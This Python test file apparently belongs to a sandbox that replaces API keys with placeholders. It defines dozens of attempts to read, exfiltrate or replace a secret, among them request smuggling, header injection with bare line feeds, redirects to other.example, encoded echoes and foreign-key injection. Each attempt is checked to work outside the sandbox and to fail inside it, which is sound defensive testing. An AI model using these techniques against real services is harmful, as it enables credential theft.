"""Attempts on a secret that a sandbox may use: to read it, to send it elsewhere, and to send another one in its place.

Each is first shown to work where a program simply has the value, on the host of a world (harness/world.py), whose
internet has a TLS server at a provider's name that sends back what it is told. Inside, a program has a placeholder.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from tests.escape.secrets_http2_rows import HTTP2_ROWS, shown
from tests.escape.secrets_rows import FIELD_ROWS, Row
from tests.harness.internet.sites import BORN
from tests.harness.world import METADATA, NAMES, PUBLIC, Seen, World, open_world

HOST, OTHER = "api.anthropic.com", "other.example"
MAPS, LAB, LOGIN = "maps.good.example", "gitlab.com", "platform.claude.com"
VALUE = "sk-ant-api03-RealValue0123456789abcdefXYZ"
FOREIGN = "sk-ant-api03-AttackersOwn9876543210fedcb"
PROGRAMS = [Path(__file__).parent / name for name in ("secrets_http2_program.py", "secrets_program.py")]
PROGRAM = "\n".join(path.read_text() for path in PROGRAMS)
REPEATS = 20
TABLE = {
    **NAMES,
    HOST: [[PUBLIC]],
    "api.openai.com": [[METADATA]],
    "github.com": [[PUBLIC]],
    LAB: [[PUBLIC]],
    LOGIN: [[PUBLIC]],
}


ROWS = (
    Row("an echo", "reads", 'return ask("/plain", key)'),
    Row("an echo in chunks", "reads", 'return ask("/chunked", key)'),
    Row("an echo in hex", "reads", 'return bytes.fromhex(ask("/hex", key).decode())'),
    Row("an echo in base64", "reads", 'return base64.b64decode(ask("/base64", key))'),
    Row("an echo with percent signs", "reads", 'return urllib.parse.unquote_to_bytes(ask("/percent", key))'),
    Row("an echo in JSON", "reads", 'return json.loads(ask("/json", key))["head"].encode()'),
    Row("an echo in a header", "reads", 'return raw(HOST, request("/header", key))'),
    Row("an echo in a trailer", "reads", 'return raw(HOST, request("/trailer", key))'),
    Row("a compressed echo", "reads", 'return gzip.decompress(ask("/gzip", {**key, "Accept-Encoding": "gzip"}))'),
    Row("an echo of Basic credentials", "reads", 'return unpacked(ask("/plain", {"Authorization": basic("", K)}))'),
    Row("a header that is logged", "reads", 'return ask("/plain", {"User-Agent": K})'),
    Row("a header of another name", "reads", 'return raw(HOST, request("/plain", {"X-Own": K}))'),
    Row("the environment and the files", "reads", "return everything()"),
    Row("a redirect to another host", "sends", 'return ask("/redirect/" + f"https://{OTHER}/".encode().hex(), key)'),
    Row("a redirect to plain HTTP", "sends", 'return ask("/redirect/" + f"http://{OTHER}/".encode().hex(), key)'),
    Row("plain HTTP to its own host", "sends", 'return raw(HOST, request("/", key), port=80)'),
    Row("plain HTTP to another host", "sends", 'return raw(OTHER, request("/", key, host=OTHER), port=80)'),
    Row("another Host", "sends", 'return raw(HOST, request("/", key, host=OTHER))'),
    Row("another Host in the target", "sends", 'return raw(HOST, request(f"https://{OTHER}/", key))'),
    Row("another server name", "sends", 'return raw(OTHER, request("/", key), name=OTHER)'),
    Row(
        "a smuggled request", "sends",
        """
        hidden = request("/", key, host=OTHER)
        head = {"Transfer-Encoding": "chunked", "Content-Length": str(len(hidden) + 5), **key}
        return raw(HOST, request("/", head, method="POST", ends=False) + b"0\\r\\n\\r\\n" + hidden)
        """,
    ),
    Row("a bare line feed", "sends", 'return raw(HOST, request("/", {"X": f"a\\nHost: {OTHER}", **key}))'),
    Row("a name that leads elsewhere", "sends", """
        return raw("api.openai.com", request("/", {"X-Api-Key": OPENAI}, host="api.openai.com"))
        """),
    Row("a foreign key", "brings", 'return ask("/plain", {"x-api-key": FOREIGN})'),
    Row("a foreign bearer", "brings", 'return ask("/plain", {"Authorization": f"Bearer {FOREIGN}"})'),
    Row("a foreign key with an underscore", "brings", 'return ask("/plain", {"X_API_KEY": FOREIGN})'),
    Row("a foreign key, too", "brings", 'return raw(HOST, request("/", key, more=("x-api-key", FOREIGN)))'),
    Row("a foreign cookie", "brings", 'return ask("/plain", {**key, "Cookie": f"session={FOREIGN}"})'),
    Row("a foreign key in a later request", "brings", """
        return raw(HOST, request("/plain", key, ends=True) + request("/plain", {"x-api-key": FOREIGN}))
        """),
    Row("a foreign key for a proxy", "brings", 'return ask("/plain", {"Proxy-Authorization": f"Bearer {FOREIGN}"})'),
    Row("a foreign key by address", "brings", 'return raw(ADDRESS, request("/", {"x-api-key": FOREIGN}), name=HOST)'),
    Row("a foreign key to another host's address", "brings", """
        return raw(OTHER, request("/", {"x-api-key": FOREIGN}), name=HOST)
        """),
    Row("a foreign key by a web socket", "brings", """
        upgrade = {"Upgrade": "websocket", "Connection": "Upgrade", "Sec-WebSocket-Key": "eA=="}
        return raw(HOST, request("/", {**upgrade, "Sec-WebSocket-Version": "13", "x-api-key": FOREIGN}))
        """),
    Row("a foreign user of Basic credentials", "brings", 'return ask("/plain", {"Authorization": basic(FOREIGN, K)})'),
    *FIELD_ROWS,
    *HTTP2_ROWS,
)  # fmt: skip
OUTSIDE = 'exec(compile(ARGUMENT["program"], "<attempts>", "exec"))\n'
INSIDE = """
import cloche, os
os.environ["THE_KEY"] = ARGUMENT["value"]
secrets = {
    "ANTHROPIC_API_KEY": cloche.Secret(env="THE_KEY"),
    "OPENAI_API_KEY": cloche.Secret(value=ARGUMENT["value"]),
    "GITLAB_TOKEN": cloche.Secret(value=ARGUMENT["value"]),
    "MAPS_KEY": cloche.Secret(
        value=ARGUMENT["value"], hosts=["maps.good.example"], places=["query:key", "body:secret"]
    ),
    "CLAUDE": cloche.Secret.login("anthropic"),
}
options = {"secrets": secrets, "network_allow": ARGUMENT["allow"], "timeout": 90, "level": "jail", "pids": 200}
for _ in range(ARGUMENT["warms_up"]):
    if cloche.run("1", **options).meta["start"] == "pooled":
        break
result = cloche.run(ARGUMENT["program"], **options)
print(json.dumps({
    "start": result.meta["start"], "stdout": result.stdout, "stderr": result.stderr, "status": str(result.status),
    "network": result.meta.get("network"), "hits": dict(result.enforcement.hits),
}))
"""


# A program that logs in, uses its tokens, and refreshes; then another sandbox tries what the first one had.
LOGS_IN = """
import json, os, urllib.error, urllib.request

def ask(url, body=None, **headers):
    data = json.dumps(body).encode() if body is not None else None
    if data is not None:
        headers["Content-Type"] = "application/json"
    try:
        with urllib.request.urlopen(urllib.request.Request(url, data, headers), timeout=10) as answer:
            return answer.read().decode()
    except urllib.error.HTTPError as error:
        return f"{error.code}: {error.read().decode()}"

LOGIN, HOST, MAPS = "https://platform.claude.com", "https://api.anthropic.com", "https://maps.good.example"
"""
USES = """
born = json.loads(ask(LOGIN + "/v1/oauth/token", {"code": "abc"}))
used = ask(HOST + "/plain", Authorization="Bearer " + born["access_token"])
again = json.loads(ask(LOGIN + "/v1/oauth/token", {"refresh_token": born["refresh_token"]}))
places = ask(MAPS + "/target?key=" + os.environ["MAPS_KEY"]), ask(MAPS + "/echo", {"secret": os.environ["MAPS_KEY"]})
ask("http://good.example/?key=" + os.environ["MAPS_KEY"])  # which is a row
print(json.dumps({"born": born, "again": again, "used": used, "places": places, "key": os.environ["MAPS_KEY"]}))
"""
TRIES = """
born, key = json.loads(%r), %r
said = [
    ask(HOST + "/plain", Authorization="Bearer " + born["access_token"]),
    ask(HOST + "/plain", **{"x-api-key": key}),
    ask(LOGIN + "/v1/oauth/token", {"refresh_token": born["refresh_token"]}),
    ask(MAPS + "/target?key=" + key),
]
print(json.dumps(said))
"""
TWO_SANDBOXES = """
import cloche, glob, io, logging, os, tempfile
log, events, folder = io.StringIO(), [], tempfile.mkdtemp()
logging.basicConfig(stream=log, level=logging.DEBUG)
value = ARGUMENT["value"]

def run(code):
    secrets = {
        "MAPS_KEY": cloche.Secret(value=value, hosts=["maps.good.example"], places=["query:key", "body:secret"]),
        "CLAUDE": cloche.Secret.login("anthropic"),
    }
    result = cloche.run(ARGUMENT["logs_in"] + code, secrets=secrets, network_allow=["good.example"], level="jail",
                        timeout=60, on_event=events.append, audit=folder)
    assert result.stdout, result.stderr
    return json.loads(result.stdout), result

first, result = run(ARGUMENT["uses"])
said, _ = run(ARGUMENT["tries"] % (json.dumps(first["born"]), first["key"]))
audit = "".join(open(path).read() for path in glob.glob(folder + "/**", recursive=True) if os.path.isfile(path))
kept = {"events": repr(events), "log": log.getvalue(), "audit": audit, "result": repr(result)}
print(json.dumps({"first": first, "said": said, "kept": kept, "network": result.meta["network"]}))
"""


@dataclass(frozen=True, slots=True)
class Came:
    """What came of all attempts: what each returned, what the world saw, and the rows of the network."""

    returned: Mapping[str, str]
    seen: Seen
    network: list[Mapping[str, Any]]

    def shows(self, row: Row) -> bool:
        """Tell whether an attempt succeeded."""
        if row.shows == "reads":
            returned = self.returned[row.name]
            returned = shown(returned.encode("latin-1")) if row in HTTP2_ROWS else returned
            return any(value in returned for value in (VALUE, BORN))
        mark = f"mark-{ROWS.index(row)}-".lower()
        texts = [one for one in self.seen.arrivals if mark in one["text"]]
        if row.shows == "brings":
            packed = base64.b64encode(FOREIGN.encode()).decode()[:40]
            return any(text.lower() in one["text"] for one in texts for text in (FOREIGN, packed))
        if row.shows == "arrives":
            return any("/arrived" in one["text"] for one in texts)
        if row.shows == "publishes":
            return any(VALUE.lower() in one["text"] for one in texts)
        values = (VALUE.lower(), BORN.lower())
        return any(value in one["text"] and _is_elsewhere(one) for one in texts for value in values)


def _is_elsewhere(arrival: Mapping[str, Any]) -> bool:
    read = [request for request in arrival["requests"] if "error" not in request]  # such as a reset after its answer
    hosts = {request.get("host", "").partition(":")[0] for request in read}
    lines = arrival["text"]
    return (
        arrival["address"] == METADATA or arrival["server_name"] != HOST or bool(hosts - {HOST})
        or f"host: {OTHER}" in lines or f"https://{OTHER}/" in lines
    )  # fmt: skip


def program() -> str:
    """Return the program that makes all attempts."""
    told = [{"name": row.name, "mark": f"mark-{number}-", "code": row.code} for number, row in enumerate(ROWS)]
    constants = {"FOREIGN": FOREIGN, "ADDRESS": PUBLIC, "HOST": HOST, "OTHER": OTHER, "TOLD": told}
    constants |= {"MAPS": MAPS, "LAB": LAB, "LOGIN": LOGIN, "FORM": "application/x-www-form-urlencoded"}
    return "".join(f"{name} = {value!r}\n" for name, value in constants.items()) + PROGRAM


@pytest.fixture(scope="module")
def world() -> Iterator[World]:
    """Open a world with providers."""
    with open_world(TABLE) as world:
        yield world


@pytest.fixture(scope="module")
def outside(world: World) -> Came:
    """Make all attempts where the program has the value."""
    env = dict.fromkeys(("ANTHROPIC_API_KEY", "OPENAI_API_KEY", "GITLAB_TOKEN", "MAPS_KEY"), VALUE)
    printed = world.run(OUTSIDE, {"program": program()}, env=env)
    return Came(printed, world.seen(), [])


@pytest.fixture(scope="module")
def inside(world: World, outside: Came) -> Came:
    """Make all attempts in a sandbox."""
    return attempts_inside(world)


def attempts_inside(world: World, *, is_warm: bool = False) -> Came:
    """Return what comes of all attempts in a new sandbox, or in one whose jail other sandboxes have used."""
    world.forget()
    allow = [OTHER, f"{PUBLIC}:443"]
    told = {"program": program(), "value": VALUE, "allow": allow, "warms_up": 30 * is_warm}
    run = world.run(INSIDE, told)
    assert run["stdout"], run
    assert run["start"] == ("pooled" if is_warm else "cold")
    return Came(json.loads(run["stdout"].splitlines()[-1]), world.seen(), run["network"])


@pytest.mark.parametrize("row", ROWS, ids=lambda row: row.name)
def test_a_secret_is_used_and_nothing_else(row: Row, outside: Came, inside: Came) -> None:
    """An attempt that succeeds with the value in the environment does not in a sandbox."""
    assert outside.shows(row), outside.returned[row.name]
    assert not inside.shows(row), inside.returned[row.name]


def test_no_attempt_succeeds_in_a_warm_sandbox(world: World) -> None:
    """Where the jail and its network had waited for any sandbox."""
    warm = attempts_inside(world, is_warm=True)
    assert [row.name for row in ROWS if warm.shows(row)] == []
    assert any(f"x-api-key: {VALUE.lower()}" in one["text"] for one in warm.seen.arrivals)


@pytest.mark.user_soak
@pytest.mark.soak
def test_no_attempt_succeeds_by_chance(world: World) -> None:
    """New placeholders, and another order of the attempts in time, let none through."""
    for number in range(REPEATS):
        again = attempts_inside(world, is_warm=number % 2 == 1)
        assert [row.name for row in ROWS if again.shows(row)] == [], again.seen.holding(VALUE)


def test_the_value_arrives_where_it_belongs(inside: Came) -> None:
    """At its own host, in TLS, in the header and in Basic credentials: else all of this would show nothing."""
    said = [one["text"] for one in inside.seen.arrivals if one["server_name"] == HOST]
    assert any(f"x-api-key: {VALUE.lower()}" in text for text in said)
    assert "200" in inside.returned["an echo in a header"]
    assert any("authorization: basic " in text for text in said)


def test_http2_and_web_sockets_are_used(inside: Came) -> None:
    """The value arrives by them, and what comes back has the placeholder: else those attempts would show nothing."""
    requests = [request for one in inside.seen.arrivals for request in one["requests"] if VALUE.lower() in one["text"]]
    assert {("HTTP/2", "CONNECT"), ("HTTP/2", "GET")} <= {(each["version"], each["method"]) for each in requests}
    for name in ("an echo in trailers of HTTP/2", "an echo of a web socket by HTTP/2", "an echo in messages"):
        assert "x-api-key: sk-ant-api03-" in shown(inside.returned[name].encode("latin-1"))


def test_what_happened_is_told(inside: Came) -> None:
    """A refused credential and a placeholder that left are rows of the network."""
    why = [row["why"] for row in inside.network if row["host"] in (HOST, OTHER)]
    assert any("no other is taken here" in text for text in why)
    assert any("the placeholder of ANTHROPIC_API_KEY stayed as it is in a request to " in text for text in why)
    assert not any(VALUE in text or FOREIGN in text for text in why)


def test_a_login_is_used_and_worth_nothing_elsewhere(world: World) -> None:
    """Its tokens work in their own sandbox, and are refreshed; another one has no use for them.

    No row, event, log or result has a value that stood in an address, or a token.
    """
    world.forget()
    argument = {"value": VALUE, "logs_in": LOGS_IN, "uses": USES, "tries": TRIES}
    told = world.run(TWO_SANDBOXES, argument)
    first, texts = told["first"], [one["text"] for one in world.seen().arrivals]
    assert f"bearer {first['born']['access_token']}".lower() in first["used"].lower()
    assert first["again"] == first["born"]
    assert first["places"] == [f"/target?key={first['key']}", json.dumps({"secret": first["key"]})]
    for part in (
        f"bearer {BORN}",
        f'"refresh_token": "{BORN}-refresh"',
        f"/target?key={VALUE}",
        f'"secret": "{VALUE}"',
    ):
        assert sum(part.lower() in text for text in texts) == 1, part
    assert told["said"][:3] == [text for text in told["said"][:3] if text.startswith("403")]
    assert told["said"][3] == f"/target?key={first['key']}"
    everything = json.dumps(told)
    assert VALUE not in everything
    assert BORN not in everything
    assert any("the placeholder of MAPS_KEY stayed as it is in a request to " in row["why"] for row in told["network"])
